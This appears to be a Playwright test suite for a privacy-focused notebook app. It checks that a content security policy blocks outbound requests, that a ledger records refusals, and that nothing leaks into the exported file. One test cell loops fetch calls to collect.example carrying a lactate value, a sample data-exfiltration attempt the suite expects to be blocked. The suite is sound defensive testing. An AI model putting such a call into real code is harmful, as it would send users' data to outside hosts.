import { execFileSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { test as plain, type Page, type Route } from '@playwright/test';
import { buildDirectory } from '../../scripts/site/places.mjs';
import { serveSite } from '../../scripts/site/server.mjs';
import { expectAccessible } from './axe';
import { cells, expect, leftFile, named, openText, test } from './watched';

const card = (page: Page) => page.getByRole('region', { name: 'Self-test' });
/** How the run stands, or what came of it. */
const outcome = (page: Page) => card(page).locator('.figure');
const finished = 60_000;

/** What each attempt showed: place, name, verdict and by what. */
const results = (page: Page) =>
  page.locator('[data-attempt]').evaluateAll((rows) =>
    rows.map((row) => ({
      place: row.closest('ul')?.getAttribute('aria-label') ?? '',
      name: row.getAttribute('data-attempt') ?? '',
      verdict: row.getAttribute('data-verdict') ?? '',
      how: row.querySelector('.how')?.textContent?.trim() ?? ''
    }))
  );

const listed = (all: Awaited<ReturnType<typeof results>>, verdict: string) =>
  all.filter((one) => one.verdict === verdict).map(({ place, name, how }) => `${place}: ${name} – ${how}`);

test('the self-test: every attempt is blocked, seen as it comes, and nothing is asked for or left behind', async ({
  page,
  watch
}) => {
  // The browser tells each refusal in its console: that is what is wanted here.
  watch.expectsRefusals = true;
  // The browser reports as asked for what it refuses: only the host knows what came.
  const asked: string[] = [];
  const site = await serveSite({ directory: buildDirectory, log: ({ method, url }) => asked.push(`${method} ${url}`) });
  await page.goto(`${site.url}/security`);
  const before = await page.evaluate(() => ({ length: history.length, elements: document.body.children.length }));
  await page.getByRole('button', { name: 'Test it now' }).press('Enter');
  await expect(page.locator('[data-verdict="blocked"]').first()).toBeVisible();
  await expect(outcome(page)).toHaveText(/^Testing: /);
  await expect(outcome(page)).toHaveText(/^\s*\d+ of \d+ were stopped\.$/, { timeout: finished });
  const all = await results(page);
  expect(listed(all, 'open')).toEqual([]);
  // Said, not tried: what a browser tells nobody.
  expect(all.filter(({ verdict }) => verdict === 'unclear').map(({ name }) => name)).toEqual([
    'preconnect',
    'open',
    'navigate'
  ]);
  const blocked = all.filter(({ verdict }) => verdict === 'blocked');
  expect(blocked).toHaveLength(all.length - 3);
  await expect(outcome(page)).toHaveText(`${blocked.length} of ${blocked.length} were stopped.`);
  expect(blocked.length).toBeGreaterThan(70);
  expect(blocked.filter(({ how }) => how === '')).toEqual([]);
  await expectAccessible(page, 'security, tested');
  // The live region says the outcome.
  await expect(page.locator('.visually-hidden[role="status"]')).toContainText('were stopped.');

  expect(asked.length).toBeGreaterThan(10);
  expect(
    asked.filter((line) => !line.startsWith('GET ') && !line.startsWith('HEAD ')),
    'sent'
  ).toEqual([]);
  expect(
    asked.filter((line) => /[?]|self-test/.test(line)),
    'asked with something'
  ).toEqual([]);
  expect(
    await page.evaluate(async () => ({
      length: history.length,
      elements: document.body.children.length,
      cookies: document.cookie,
      stored: Object.keys(localStorage).filter((key) => key.includes('self-test')),
      databases: (await indexedDB.databases()).map(({ name }) => name),
      caches: await caches.keys()
    }))
  ).toEqual({ ...before, cookies: '', stored: [], databases: [], caches: [] });
  await page.goto(`${site.url}/ledger`);
  await expect(page.getByText('Nothing has left this device.')).toBeVisible();
  await expect(page.getByRole('table')).toHaveCount(0);
  await site.close();
});

test('Stop ends the self-test, and a second run begins anew', async ({ page, watch }) => {
  watch.expectsRefusals = true;
  await page.goto('/security');
  await page.getByRole('button', { name: 'Test it now' }).click();
  await expect(page.locator('[data-verdict="blocked"]').nth(2)).toBeVisible();
  await card(page).getByRole('button', { name: 'Stop' }).press('Enter');
  await expect(outcome(page)).toHaveText(/^\s*Ended after \d+ of \d+\./);
  expect(await page.locator('[data-verdict="waiting"]').count()).toBeGreaterThan(0);
  await card(page).getByRole('button', { name: 'Test again' }).press('Enter');
  await expect(outcome(page)).toHaveText(/^Testing: /);
  await expect(page.locator('[data-verdict="blocked"]').nth(2)).toBeVisible();
});

/** The page as it would be without its wall: no policy of its own, none of the host. */
async function withoutPolicy(route: Route): Promise<void> {
  const answer = await route.fetch();
  const headers = answer.headers();
  delete headers['content-security-policy'];
  const type = headers['content-type'] ?? '';
  if (!/html/.test(type) || route.request().method() === 'HEAD') return route.fulfill({ response: answer, headers });
  const text = await answer.text();
  const body = text.replace(/<meta http-equiv="content-security-policy"[^>]*>/i, '');
  if (body === text) throw new Error('The page has no policy that could be taken out.');
  delete headers['content-encoding'];
  delete headers['content-length'];
  return route.fulfill({ status: 200, headers, body });
}

plain('without a policy the self-test says that attempts were not stopped: it can fail', async ({ page, baseURL }) => {
  await page.route(`${baseURL}/**`, withoutPolicy);
  await page.goto('/security');
  await page.getByRole('button', { name: 'Test it now' }).click();
  await expect(outcome(page)).toHaveText(/^\s*\d+ of \d+ were not stopped\.$/, { timeout: 60_000 });
  const all = await results(page);
  const open = (place: string) =>
    all.filter((one) => one.place === place && one.verdict === 'open').map(({ name }) => name);
  for (const name of ['fetch', 'xhr', 'beacon', 'image', 'css', 'script', 'frame', 'form', 'eval', 'handler', 'base'])
    expect(open('By code in the page'), name).toContain(name);
  for (const name of ['fetch', 'xhr', 'websocket', 'eval', 'import', 'nested'])
    expect(open('By code in a worker'), name).toContain(name);
  // The frame of own code and the engine have locks of their own: those hold.
  expect(open('By a cell of own code')).toEqual([]);
  expect(open('By SQL')).toEqual([]);
});

test('what the host sends is said, header by header', async ({ page, baseURL }) => {
  await page.goto('/security');
  const headers = page.locator('[data-header]');
  await expect(headers).toHaveCount(7);
  await expect(headers.getByText('sent', { exact: true })).toHaveCount(7);
  await page.route(`${baseURL}/security`, async (route) => {
    const answer = await route.fetch();
    const { 'referrer-policy': _, ...others } = answer.headers();
    await route.fulfill({ response: answer, headers: others });
  });
  await page.reload();
  await expect(page.locator('[data-header="Referrer-Policy"]')).toContainText('not sent');
  await expect(headers.getByText('sent', { exact: true })).toHaveCount(6);
});

const script = fileURLToPath(new URL('../../scripts/verify-ledger.mjs', import.meta.url));

test('what a cell and the page asked for and were refused stands in the ledger, as origins, and its chain is whole', async ({
  page,
  watch
}) => {
  watch.expectsRefusals = true;
  await openText(
    page,
    "# Out\n\n```js id=plot\nfor (let n = 0; n < 40; n++) try { fetch('https://collect.example/?lactate=3.5&n=' + n) } catch {}\n1 + 1\n```\n"
  );
  await page.getByRole('button', { name: /^Read the code/ }).click();
  await page
    .getByRole('dialog')
    .getByRole('button', { name: /^Allow/ })
    .click();
  await expect(named(page, 'plot')).toHaveAttribute('data-status', 'fresh');
  await page.evaluate(() => fetch('https://other.example/a?b=3.5').catch(() => undefined));
  await page.getByRole('link', { name: /open the ledger/ }).click();
  await expect(page.getByRole('complementary', { name: 'Ledger' })).toContainText('39 times');
  await page.goto('/ledger');
  const rows = page.getByRole('table').locator('tbody tr');
  const cell = rows.filter({ hasText: 'collect.example' });
  await expect(cell.first()).toContainText('Blocked: cell plot asked for https://collect.example – refused');
  await expect(rows.filter({ hasText: 'other.example' })).toContainText('the page asked for https://other.example');
  // The first at once, the 39 others together.
  await expect(cell).toHaveCount(2);
  await expect(cell.first()).toContainText('39 times');
  await expect(page.getByText('41 attempts blocked')).toBeVisible();
  await page.getByRole('button', { name: /^Blocked \d/ }).click();
  await expect(rows).toHaveCount(3);
  await page.getByRole('button', { name: /^Left \d/ }).click();
  await expect(rows).toHaveCount(0);
  await page.getByRole('button', { name: /^Blocked \d/ }).click();
  const path = await leftFile(page, () => page.getByRole('button', { name: 'Export ledger' }).click());
  const said = execFileSync(process.execPath, [script, path], { encoding: 'utf8' });
  expect(said).toMatch(/^3 entries, unbroken; 0 left the device/);
  const text = execFileSync('cat', [path], { encoding: 'utf8' });
  expect(text).not.toContain('lactate');
  expect(text).not.toContain('b=3.5');
});

test('axe: the security page, the ledger with every kind of entry, the gate', async ({ page, watch }) => {
  watch.expectsRefusals = true;
  await page.goto('/security');
  await expect(page.locator('[data-header]').getByText('sent', { exact: true }).first()).toBeVisible();
  await expectAccessible(page, 'security');
  await openText(page, '# Gate\n\nOwn text.\n');
  await page.evaluate(() => fetch('https://other.example/').catch(() => undefined));
  await page.getByRole('banner').getByRole('button', { name: 'More' }).click();
  await page.getByRole('menuitem', { name: 'Save as Markdown' }).click();
  await expect(page.getByRole('alertdialog').getByRole('button', { name: 'Let it out' })).toBeEnabled();
  await expectAccessible(page, 'gate', '[role="alertdialog"]');
  await page.keyboard.press('Escape');
  await leftFile(page, async () => {
    await page.getByRole('banner').getByRole('button', { name: 'More' }).click();
    await page.getByRole('menuitem', { name: 'Save as Markdown' }).click();
  });
  await expect(cells(page)).not.toHaveCount(0);
  await page.goto('/ledger');
  await expect(page.getByRole('table').locator('tbody tr')).toHaveCount(3);
  await expectAccessible(page, 'ledger');
});
